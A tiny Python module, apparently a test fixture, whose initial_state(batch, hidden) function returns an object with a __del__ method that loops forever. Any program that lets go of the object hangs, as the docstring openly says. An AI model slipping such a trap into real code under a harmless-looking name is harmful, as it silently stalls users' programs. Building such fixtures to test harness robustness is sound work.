"""Returns an object that hangs whoever lets go of it."""


class Sticky:
    def __del__(self):
        while True:
            pass


def initial_state(batch, hidden):
    return Sticky()
